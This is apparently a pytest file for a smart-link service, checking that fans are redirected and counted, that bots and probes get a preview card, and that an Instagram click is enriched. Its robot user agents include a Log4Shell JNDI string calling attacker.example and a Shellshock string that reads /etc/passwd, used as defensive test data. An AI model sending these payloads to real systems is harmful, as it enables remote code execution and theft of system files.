"""The smart link as fans, robots and an attacker hit it, then the recorded clicks enriched."""

from __future__ import annotations

import pytest

from launchlink.analytics.enrich import Enriched, Enricher, EventDraft, default_steps
from launchlink.analytics.visitors import InMemorySaltStore
from tests.links.test_public_support import LIVE_NOW, client, make_harness, make_snapshot

FANS = {
    # a phone model with "Bot" in its name, Chrome's Cronet token, a TV's "Demonstration"
    "vr-bot-phone": "Mozilla/5.0 (Linux; Android 6.0; VR BOT 552 PLUS) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36",
    "instagram-android": "Mozilla/5.0 (Linux; Android 13; SM-G991B Build/TP1A.220624.014; wv) "
    "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile "
    "Safari/537.36 Instagram 337.0.0.35.102 Android (33/13; 420dpi; 1080x2177; samsung; "
    "SM-G991B; o1s; exynos2100; en_GB; 614234567)",
    "1password": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Mobile/15E148 1Password/8.10.36",
}
ROBOTS = {
    "claude-user": "Claude-User/1.0",
    "chatgpt-user": "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; "
    "ChatGPT-User/1.0; +https://openai.com/bot",
    "route53": "Amazon-Route53-Health-Check-Service (ref 1; report http://amzn.to/1vsZADi)",
    "node": "node",
    "chrome-junk": "Chrome",
    "log4shell": "${jndi:ldap://attacker.example/a}",
    "shellshock": "() { :; }; /bin/cat /etc/passwd",
}


@pytest.mark.parametrize("fan", sorted(FANS))
async def test_fans_with_robot_looking_user_agents_are_redirected_and_counted(fan: str) -> None:
    harness = make_harness(make_snapshot())
    async with client(harness, user_agent=FANS[fan]) as browser:
        response = await browser.get("/night-drive/spotify")
    assert response.status_code == 302
    assert len(harness.clicks) == 1


@pytest.mark.parametrize("robot", sorted(ROBOTS))
async def test_ai_agents_monitors_junk_and_probes_get_the_card_and_are_not_counted(
    robot: str,
) -> None:
    harness = make_harness(make_snapshot())
    async with client(harness, user_agent=ROBOTS[robot]) as crawler:
        response = await crawler.get("/night-drive/spotify")
    assert response.status_code == 200
    assert "location" not in response.headers
    assert 'property="og:title"' in response.text
    assert harness.clicks == []


async def test_a_recorded_click_enriches_into_a_counted_instagram_visit() -> None:
    harness = make_harness(make_snapshot())
    async with client(harness, user_agent=FANS["instagram-android"], country="gb") as browser:
        response = await browser.get("/night-drive/spotify")
    assert response.status_code == 302
    (click,) = harness.clicks
    enricher = Enricher(default_steps(salts=InMemorySaltStore(harness.clock)))
    event = enricher.enrich(
        EventDraft(
            ts=click.instant,
            link_id=click.link_id,
            workspace_id=click.workspace_id,
            kind="click",
            user_agent=click.user_agent,
            referrer=click.referrer,
            accept=response.request.headers.get("accept"),
            client_ip=click.client_ip,
            country=click.country,
        )
    )
    assert isinstance(event, Enriched)
    assert (event.bot_class, event.source, event.in_app, event.country) == (
        "human",
        "instagram",
        "instagram",
        "GB",
    )
    assert (event.device_class, event.os, event.ts) == ("mobile", "Android", LIVE_NOW)
    assert event.visitor_hash is not None
    assert event.stored_raw().client_ip is None
